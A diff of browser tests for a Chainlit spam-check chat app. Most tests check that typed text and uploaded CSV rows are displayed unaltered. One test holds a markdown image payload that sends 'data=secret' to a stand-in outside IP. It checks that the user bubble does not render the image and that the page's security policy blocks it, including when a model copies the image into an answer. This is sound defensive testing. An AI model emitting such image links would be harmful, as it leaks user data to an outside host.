@@ -277,9 +277,17 @@ def test_spam_check_shows_label_and_probabilities_and_long_input(server, browser
     assert page.locator("text=/Used spam - classify/").count() == 1  # the LangChain chain step is shown
     assert refused == []
     shot(page, "04-spam-check")
+    # the user's own bubble shows the text as typed: its markdown read "EGFR:negative" as a directive
+    # and showed "EGFR" (Chainlit issue #1930)
+    typed = "Dx:NSCLC adenocarcinoma, stage IV. EGFR:negative. Plan:pembrolizumab. Mets:bone, liver. 2*3*4"
+    send(page, typed)
+    page.wait_for_function("() => document.querySelectorAll('[data-step-type=assistant_message]').length >= 2",
+                           timeout=ANSWER_TIMEOUT * 1000)
+    wait_idle(page)
+    assert page.locator("[data-step-type=user_message]").last.inner_text().strip() == typed
     # a 100 kB message: answered, and the user is told only its start and end were read
     send(page, ("WIN a free prize " + SECRET + " call now! ") * 2800)
-    page.wait_for_function("() => document.querySelectorAll('[data-step-type=assistant_message]').length >= 2",
+    page.wait_for_function("() => document.querySelectorAll('[data-step-type=assistant_message]').length >= 3",
                            timeout=ANSWER_TIMEOUT * 1000)
     wait_idle(page)
     assert "only its start and its end were read" in answers(page).last.inner_text()
@@ -313,7 +321,7 @@ def test_spam_batch_upload_gives_a_table_and_a_csv_and_bad_files_a_message(serve
     choose_profile(page, "Spam check")
     good = tmp_path / "messages.csv"
     good.write_text("id,text\n1,Are we still meeting for lunch today?\n2,WINNER! Claim your FREE prize: "
-                    "text WIN to 80086 now\n3,See you at the lecture tomorrow\n", encoding="utf-8")
+                    "text WIN to 80086 now\n3,Reminder:call the clinic tomorrow, note:urgent\n", encoding="utf-8")
     page.set_input_files("#upload-button-input", str(good))
     page.wait_for_selector("#attachments :text('messages.csv')")
     page.fill("#chat-input", "please check these")  # typed beside a file: said to be unused
@@ -324,6 +332,9 @@ def test_spam_batch_upload_gives_a_table_and_a_csv_and_bad_files_a_message(serve
     message = answers(page).last
     assert message.locator("table").count() == 1  # one table: no second copy of it in another format
     assert message.locator("table tbody tr").count() == 3
+    # shown as it was (less invisible word joiners): "note:urgent" had been read as a directive and dropped
+    shown = message.locator("table tbody tr").nth(2).locator("td").nth(1).inner_text().replace("\u2060", "")
+    assert shown == "Reminder:call the clinic tomorrow, note:urgent", shown
     link = page.locator('a.inline-file[download="messages-spam-results.csv"]')
     response = page.request.get(link.get_attribute("href"))
     assert response.ok
@@ -620,7 +631,7 @@ def test_stopping_a_batch_upload_keeps_the_texts_it_did(server, browser, tmp_pat
     with sqlite3.connect(server.database) as db:
         sent = db.execute('SELECT "output", "metadata" FROM steps WHERE "type" = ? AND "threadId" IN (SELECT "threadId" '
                           'FROM steps WHERE "output" LIKE ?)', ("user_message", "%of 640 texts%")).fetchall()
-    assert [(output, json.loads(metadata).get("files")) for output, metadata in sent] == [("📎 `many.txt`", ["many.txt"])]
+    assert [(output, json.loads(metadata).get("files")) for output, metadata in sent] == [("📎 many.txt", ["many.txt"])]
     page.context.close()
 
 
@@ -936,9 +947,15 @@ def test_a_markdown_image_in_a_message_is_not_fetched(server, browser):
     page.on("response", lambda r: answered.append(r.url) if "203.0.113.9" in r.url else None)
     send(page, "Hi ![pixel](http://203.0.113.9/track.png?data=secret)")
     answers(page).filter(has_text="probability").first.wait_for(timeout=ANSWER_TIMEOUT * 1000)
+    # the user's bubble is not markdown (.chainlit/config.toml, user_message_markdown): no image there
+    bubble = page.locator("[data-step-type=user_message]").last
+    assert bubble.inner_text().strip() == "Hi ![pixel](http://203.0.113.9/track.png?data=secret)"
+    assert bubble.locator("img").count() == 0
+    # an answer's image (a model copying it) is refused by the page's policy: an image put on the page
+    url = "http://203.0.113.9/track.png?data=secret"
+    page.evaluate("url => document.body.appendChild(Object.assign(new Image(), {src: url}))", url)
     page.wait_for_timeout(500)
     # the browser refuses it before any connection (Playwright still lists the refused request)
-    url = "http://203.0.113.9/track.png?data=secret"
     assert "csp" in (failures.get(url) or "").lower() and not answered, (failures, answered)
     OUTSIDE.remove(url)  # refused, not sent: the last test checks that nothing else left the page
     page.context.close()
